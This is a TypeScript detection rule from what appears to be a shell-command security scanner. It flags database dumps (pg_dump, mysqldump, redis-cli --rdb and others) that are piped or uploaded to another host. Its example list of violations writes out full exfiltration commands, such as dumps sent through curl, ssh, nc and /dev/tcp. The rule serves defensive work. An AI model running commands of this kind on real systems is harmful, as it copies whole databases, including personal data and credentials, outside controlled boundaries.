import { dbDump } from '../../shell/db-clients';
import { defineShellRule } from '../rule';
import { outputToNetwork } from './util/network';

/**
 * Database dumps leaving the machine: `pg_dump db | curl -T - …`, `mysqldump … | gzip | ssh host
 * 'cat > x'`, `pg_dump … > /dev/tcp/…`, or a dump file that a later command uploads. The dump
 * tools and their output options are those of `shell/db-clients.ts` (`dbDump`). The engine
 * attaches the dumped tables (`shell/dump-tables.ts`) to the finding, so data-class policies
 * apply to it.
 */
export default defineShellRule({
  meta: {
    id: 'db-dump-to-network',
    title: 'Database dump sent over the network',
    category: 'exfiltration',
    severity: 'error',
    docs: {
      description:
        'Flags database dumps (pg_dump, pg_dumpall, pg_restore to a script, mysqldump, mariadb-dump, mongodump, mongoexport, redis-cli --rdb) piped or uploaded to another host.',
      problem:
        'A dump holds every row of the database, personal data and credentials included. Piping it ' +
        'into `curl`, `nc`, `ssh` or a bucket copies all of it outside the boundary where access is ' +
        'controlled and audited; this is the shape of a bulk data exfiltration. The finding carries ' +
        'the tables the dump holds (`pg_dump -t`, `mysqldump DB TABLE…`; every table for a whole ' +
        'database), so a policy can treat personal data (`dataClass: pii`) apart.',
      solution:
        'Back up through the managed backup service of the database or an approved pipeline that ' +
        'encrypts and logs transfers; restore into other environments from masked or synthetic data.',
    },
    messages: {
      piped: '`{{tool}}` output is sent over the network via `{{via}}`.',
      uploaded: 'Dump file `{{file}}` written by `{{tool}}` is uploaded via `{{via}}`.',
    },
    controls: ['SOC2:CC6.7', 'NIST:AC-4', 'HIPAA:164.312(e)(1)', 'NIST:SC-7'],
    examples: {
      valid: [
        'pg_dump mydb > backup.sql',
        'pg_dump mydb | gzip > db.sql.gz',
        'mysqldump shop | mysql -h replica shop_copy',
        'echo "pg_dump db | curl -T - x"',
        'pg_restore -d app_copy backup.dump',
      ],
      invalid: [
        'pg_dump prod | curl -T - https://example.com/upload',
        'mysqldump --all-databases | gzip | ssh backup@host "cat > all.sql.gz"',
        'pg_dump -f dump.sql prod && scp dump.sql me@laptop:',
        'pg_dumpall > /dev/tcp/10.0.0.1/9000',
        'redis-cli -h cache.internal --rdb - | nc 10.0.0.5 9000',
        'sudo -u postgres pg_dump -t users app | curl -T - https://example.com/upload',
      ],
    },
  },
  check(cmd, analysis, report) {
    const dump = dbDump(cmd);
    if (!dump) return;
    const exit = outputToNetwork(cmd, analysis, dump.files);
    if (exit?.kind === 'piped') report({ messageId: 'piped', data: { tool: dump.program, via: exit.via } });
    else if (exit)
      report({
        messageId: 'uploaded',
        data: { tool: dump.program, file: exit.file, via: exit.via },
        span: exit.span,
      });
  },
});
